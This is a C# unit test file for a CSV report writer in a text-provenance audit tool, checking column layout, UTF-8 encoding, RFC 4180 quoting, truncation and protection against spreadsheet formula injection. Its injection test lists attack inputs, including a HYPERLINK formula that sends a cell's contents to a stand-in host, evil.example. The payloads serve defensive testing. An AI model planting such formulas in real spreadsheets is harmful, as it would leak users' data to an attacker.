using System.Text;
using CsCheck;
using ProvenanceAudit.Reports;
using ProvenanceAudit.Works;

namespace ProvenanceAudit.Reporting.Tests;

public sealed class CsvReportTests
{
    [Fact]
    public void Findings_are_a_row_a_work_under_named_columns()
    {
        List<string[]> rows = Read(Findings(Samples.Full()));
        Assert.Equal(2, rows.Count);
        Dictionary<string, string> row = rows[0].Zip(rows[1]).ToDictionary(c => c.First, c => c.Second);
        Assert.Equal("w1", row["work_id"]);
        Assert.Equal("Herman Melville; Charles Feidelson", row["contributors"]);
        Assert.Equal("isbn 9780142437247", row["identifiers"]);
        Assert.Equal("209117", row["work_words"]);
        Assert.Equal("23", row["copied_words"]);
        Assert.Equal("confirmed", row["decision"]);
        Assert.Equal("2025-04-02T09:00:00Z", row["decided_at"]);
    }

    [Fact]
    public void Matches_are_a_row_a_match_with_the_words_of_both_sides()
    {
        List<string[]> rows = Read(Matches(Samples.Full()));
        Assert.Equal(3, rows.Count);
        Dictionary<string, string> row = rows[0].Zip(rows[1]).ToDictionary(c => c.First, c => c.Second);
        Assert.Equal("Call me Ishmael. Many years ago, never mind how long precisely", row["output_text"]);
        Assert.Equal("Call me Ishmael. Some years ago, never mind how long precisely", row["work_text"]);
        Assert.Equal(("40", "102", "100", "162"), (row["output_start"], row["output_end"], row["work_start"], row["work_end"]));
        Assert.Equal(("near-verbatim", "14.2", "false"), (row["kind"], row["e_value"], row["significant"]));
        Assert.Equal("in quotation marks, beside its title or author", row["quoted"]);
    }

    [Fact]
    public void Spreadsheets_see_that_the_files_are_UTF_8() =>
        Assert.Equal([0xEF, 0xBB, 0xBF], Findings(Samples.Full())[..3]);

    // OWASP, "CSV Injection": cells that begin with = + - @, a tab or a line end may be run as formulas.
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("  =1")]
    [InlineData("＝1")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")")]
    public void No_cell_can_be_run_as_a_formula(string attack)
    {
        List<string[]> rows = Read(Findings(WithTitle(attack)));
        Assert.Equal("'" + attack, rows[1][1]);
    }

    // RFC 4180, section 2: "Fields containing line breaks (CRLF), double quotes, and commas should be enclosed in double-quotes",
    // and "a double-quote appearing inside a field must be escaped by preceding it with another double quote."
    [Fact]
    public void Any_text_comes_back_from_its_cell() => Gen.OneOf(
        Gen.String, Gen.OneOf<char>(',', '"', '\r', '\n', 'a', ' ', ';').Array[0, 12].Select(c => new string(c))).Sample(text =>
    {
        string title = "t" + text;
        List<string[]> rows = Read(Findings(WithTitle(title)));
        string expected = Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(title.Replace('\0', '\uFFFD')));
        Assert.Equal(2, rows.Count);
        Assert.Equal(expected, rows[1][1]);
    }, iter: 1_000);

    [Fact]
    public void A_text_longer_than_a_cell_may_be_is_cut_between_characters()
    {
        List<string[]> rows = Read(Findings(WithTitle(new string('x', 31_999) + "🐋🐋")));
        Assert.Equal(new string('x', 31_999) + "…", rows[1][1]);
    }

    private static AuditReport WithTitle(string title)
    {
        Finding finding = Samples.Small().Findings[0];
        return Samples.Report(finding with { Work = new Work { Id = "w1", Title = title } });
    }

    private static byte[] Findings(AuditReport report)
    {
        using var stream = new MemoryStream();
        CsvReport.WriteFindings(report, stream);
        return stream.ToArray();
    }

    private static byte[] Matches(AuditReport report)
    {
        using var stream = new MemoryStream();
        CsvReport.WriteMatches(report, stream);
        return stream.ToArray();
    }

    /// <summary>Reads as RFC 4180 says, and no more forgivingly.</summary>
    private static List<string[]> Read(byte[] csv)
    {
        string text = Encoding.UTF8.GetString(csv.AsSpan(3));
        var rows = new List<string[]>();
        var row = new List<string>();
        for (int i = 0; i < text.Length;)
        {
            var cell = new StringBuilder();
            if (text[i] == '"')
            {
                for (i++; text[i] != '"' || (i + 1 < text.Length && text[i + 1] == '"'); i++)
                {
                    if (text[i] == '"')
                        i++;
                    cell.Append(text[i]);
                }
                i++;
            }
            else
            {
                for (; text[i] is not (',' or '\r'); i++)
                {
                    Assert.True(text[i] is not ('"' or '\n'));
                    cell.Append(text[i]);
                }
            }
            row.Add(cell.ToString());
            if (text[i] == ',')
            {
                i++;
                continue;
            }
            Assert.Equal("\r\n", text.Substring(i, 2));
            i += 2;
            rows.Add([.. row]);
            row.Clear();
        }
        return rows;
    }
}
